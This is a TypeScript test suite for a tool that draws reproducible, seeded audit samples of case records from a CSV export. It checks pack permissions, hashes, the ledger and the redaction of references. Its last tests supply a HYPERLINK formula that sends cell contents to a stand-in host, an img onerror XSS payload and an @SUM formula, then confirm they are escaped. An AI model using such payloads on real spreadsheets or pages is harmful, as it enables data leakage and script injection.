import { createHash } from 'node:crypto';
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import seedrandom from 'seedrandom';
import { describe, expect, it, onTestFinished } from 'vitest';
import { restoreText } from '../../src/audit/formula-guard.ts';
import { csvOf, fixtureLines } from '../support/exports.ts';
import { copyFixture, readTree, sha256, temporaryFolder, writeTree } from '../support/folders.ts';
import { faultsOf, readLedgerLines, readRecord, readTable } from '../support/pack.ts';
import { newMachine, run } from '../support/run.ts';

const SEED = 'blue kettle 42';
const DRAW = ['--meeting', '2026-11-20', '--seed', SEED];
const PACK = 'packs/2026-11-20';

async function drawFrom(name: string): Promise<string> {
  const machine = newMachine();
  copyFixture(name, machine.folder);
  const { exitCode } = await run(['sample', 'mash-export.csv', ...DRAW], machine);
  expect(exitCode).toBe(0);
  return machine.folder;
}

describe('a pack', () => {
  it.skipIf(process.platform === 'win32')(
    'is its owner’s alone, however open the system would leave new files',
    async () => {
      const usual = process.umask(0);
      onTestFinished(() => {
        process.umask(usual);
      });
      const folder = await drawFrom('ordinary-week');
      const modeOf = (path: string) => (statSync(join(folder, path)).mode & 0o777).toString(8);
      const files = [...readTree(join(folder, 'packs')).keys()].map((path) => `packs/${path}`);

      expect(files).toContain('packs/draws.jsonl');
      expect(files.map((path) => `${modeOf(path)} ${path}`)).toEqual(
        files.map((path) => `600 ${path}`),
      );
      expect(['packs', PACK, `${PACK}/worksheets`].map(modeOf)).toEqual(['700', '700', '700']);
    },
  );

  it('holds the SHA-256 and length of every other file of its own in draw.json', async () => {
    const pack = join(await drawFrom('ordinary-week'), PACK);
    expect(faultsOf(pack)).toEqual([]);
    expect(readRecord(pack).files.map(({ path }) => path)).toEqual([
      'worksheets.html',
      'worksheets.xlsx',
      ...['T1', 'T2', 'T3', 'T4', 'N1', 'N2', 'N3', 'N4'].map((label) => `worksheets/${label}.csv`),
      'summary.html',
      'register.csv',
      'exclusions.csv',
    ]);
  });

  it('holds the SHA-256 of the exports it was drawn from', async () => {
    const folder = await drawFrom('ordinary-week');
    expect(readRecord(join(folder, PACK)).exports).toMatchObject([
      { name: 'mash-export.csv', sha256: sha256(readFileSync(join(folder, 'mash-export.csv'))) },
    ]);
  });

  it('stands in the ledger by the SHA-256 of its draw.json', async () => {
    const folder = await drawFrom('ordinary-week');
    const [line = '', ...others] = readLedgerLines(join(folder, 'packs'));
    expect(others).toEqual([]);
    expect(JSON.parse(line)).toMatchObject({
      time: '2026-11-18T09:30:00Z',
      seed: SEED,
      packDigest: sha256(readFileSync(join(folder, PACK, 'draw.json'))),
      previous: '0'.repeat(64),
    });
  });

  it('holds nothing of the day, the time or the place it was made', async () => {
    const packs = await Promise.all(
      [
        newMachine(),
        newMachine({ today: '2031-01-01', timestamp: '2031-01-01T00:00:00Z', digits: '7' }),
      ].map(async (machine) => {
        copyFixture('ordinary-week', machine.folder);
        await run(['sample', 'mash-export.csv', ...DRAW], machine);
        return readTree(join(machine.folder, PACK));
      }),
    );
    expect(packs[0]?.size).toBe(14);
    expect(packs[1]).toEqual(packs[0]);
  });
});

describe('register.csv', () => {
  it('gives every ticket to its last bit, as a stranger would work it out', async () => {
    const register = readTable(join(await drawFrom('ordinary-week'), PACK), 'register.csv');
    const hex = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');
    const ticketOf = (reference: string) => seedrandom(hex(`${hex(SEED)}:${reference}`))();

    expect(register).toHaveLength(82);
    expect(register.map(({ ticket }) => Number(ticket))).toEqual(
      register.map(({ reference = '' }) => ticketOf(reference)),
    );
  });

  it('has each side in ticket order, and the lowest tickets are the cases and reserves', async () => {
    const pack = join(await drawFrom('ordinary-week'), PACK);
    const register = readTable(pack, 'register.csv');
    const { sample } = readRecord(pack);

    for (const [side, letter] of [
      ['met', 'T'],
      ['not-met', 'N'],
    ]) {
      const ofSide = register.filter((row) => row.side === side);
      const tickets = ofSide.map(({ ticket }) => Number(ticket));
      expect(tickets).toEqual(tickets.toSorted((a, b) => a - b));
      expect(ofSide.map(({ order }) => order)).toEqual(ofSide.map((_, at) => String(at + 1)));
      expect(ofSide.slice(0, 7).map(({ label, role }) => `${label ?? ''} ${role ?? ''}`)).toEqual([
        ...[1, 2, 3, 4].map((n) => `${letter ?? ''}${n} case`),
        ...[5, 6, 7].map((n) => `${letter ?? ''}${n} reserve`),
      ]);
      expect(ofSide.slice(7).every(({ label, role }) => label === '' && role === '')).toBe(true);
    }
    const asRecorded = register.map(
      ({ label, reference, side, ticket, order, role, inclusion }) => ({
        label: label === '' ? null : label,
        reference,
        side,
        ticket: Number(ticket),
        order: Number(order),
        inclusion: Number(inclusion),
        role: role === '' ? null : role,
      }),
    );
    const { register: recorded } = readRecord(pack);
    expect(asRecorded).toEqual(recorded);
    expect(sample).toMatchObject(recorded.filter(({ label }) => label !== null));
  });
});

describe('exclusions.csv', () => {
  it('and register.csv together account for every row of the export', async () => {
    const pack = join(await drawFrom('ordinary-week'), PACK);
    const excluded = readTable(pack, 'exclusions.csv');
    expect(readTable(pack, 'register.csv').length + excluded.length).toBe(
      fixtureLines('ordinary-week').rows.length,
    );
    const rows = excluded.map(({ row }) => Number(row));
    expect(new Set(rows).size).toBe(rows.length);
    expect(excluded.filter(({ reason, meaning }) => reason === '' || meaning === '')).toEqual([]);
  });
});

describe('the summary', () => {
  it('goes wider than the meeting, so it has labels and never a reference', async () => {
    const pack = join(await drawFrom('ordinary-week'), PACK);
    const summary = readFileSync(join(pack, 'summary.html'), 'utf8');
    const references = readTable(pack, 'register.csv').map(({ reference = '' }) => reference);
    expect(references.filter((reference) => summary.includes(reference))).toEqual([]);
    expect(['T1', 'T4', 'N1', 'N4'].filter((label) => !summary.includes(`>${label}<`))).toEqual([]);
  });
});

describe('what an export says', () => {
  const hostile = {
    reference: '=HYPERLINK("http://example.test?"&A1,"open")',
    team: '<img src=x onerror=alert(1)> & "Team"',
    authority: '@SUM(A1:A9)',
  };

  async function hostilePack(): Promise<string> {
    const machine = newMachine({ folder: temporaryFolder() });
    const headings = ['Case Ref', 'Decision Date', 'Outcome', 'Allocated Team', 'LA'];
    const row = [hostile.reference, '15/11/2026', 'S47', hostile.team, hostile.authority];
    writeTree(machine.folder, { 'week.csv': csvOf([headings, row]) });
    const { exitCode } = await run(['sample', 'week.csv', ...DRAW], machine);
    expect(exitCode).toBe(0);
    return join(machine.folder, PACK);
  }

  it('is never a formula in a table of the pack, and can be had back as it was', async () => {
    const pack = await hostilePack();
    const [registered] = readTable(pack, 'register.csv');
    expect(registered?.reference).toBe(`'${hostile.reference}`);
    expect(restoreText(registered?.reference ?? '')).toBe(hostile.reference);

    const entries = new Map(
      readTable(pack, 'worksheets/T1.csv').map(({ Id = '', Entry = '' }) => [Id, Entry]),
    );
    expect(entries.get('reference')).toBe(`'${hostile.reference}`);
    expect(entries.get('local-authority')).toBe(`'${hostile.authority}`);
    expect(entries.get('team')).toBe(hostile.team);
  });

  it('is never markup in a page of the pack', async () => {
    const summary = readFileSync(join(await hostilePack(), 'summary.html'), 'utf8');
    expect(summary).not.toContain('<img');
    expect(summary).toContain('&lt;img src=x onerror=alert(1)&gt; &amp; &quot;Team&quot;');
  });
});
